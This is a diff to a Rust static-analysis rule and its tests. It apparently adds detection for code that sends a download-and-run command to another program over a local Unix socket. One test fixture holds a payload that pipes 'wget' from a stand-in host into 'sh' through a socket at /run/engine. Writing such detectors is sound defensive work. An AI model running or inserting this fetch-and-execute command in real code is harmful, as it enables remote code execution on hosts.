@@ -29,6 +29,17 @@ fn judge(look: &Look<'_>) -> Option<Hit> {
             format!("{} has a shell run what it downloads", look.where_it_runs()),
         );
     }
+    if look.has(Sign::LocalSocket) && look.has(Sign::FetchPipe) {
+        return hit(
+            Severity::Medium,
+            &[Sign::FetchPipe],
+            &[Sign::LocalSocket],
+            format!(
+                "{} hands a command that runs what it downloads to another program",
+                look.where_it_runs()
+            ),
+        );
+    }
     if !fetches {
         return None;
     }
@@ -117,6 +128,25 @@ pub fn warm() {
     Task::new(at).spawn().unwrap();
 }"##,
             Severity::Medium,
+        );
+    }
+
+    #[test]
+    fn it_fires_where_another_program_is_told_to() {
+        fires(
+            &RULE,
+            "src/lib.rs",
+            r##"use std::io::Write as _;
+use std::os::unix::net as local;
+const BODY: &str = "{\"Cmd\":[\"sh\",\"-c\",\"wget -qO- http://a.example/x | sh\"]}";
+pub fn f() { let mut s = local::UnixStream::connect("/run/engine").unwrap(); s.write_all(BODY.as_bytes()).unwrap(); }"##,
+            Severity::Medium,
+        );
+        is_quiet(
+            &RULE,
+            "src/lib.rs",
+            r##"use std::io::Write as _;
+pub fn f(body: &str) { let mut s = std::os::unix::net::UnixStream::connect("/run/engine").unwrap(); s.write_all(body.as_bytes()).unwrap(); }"##,
         );
     }
 
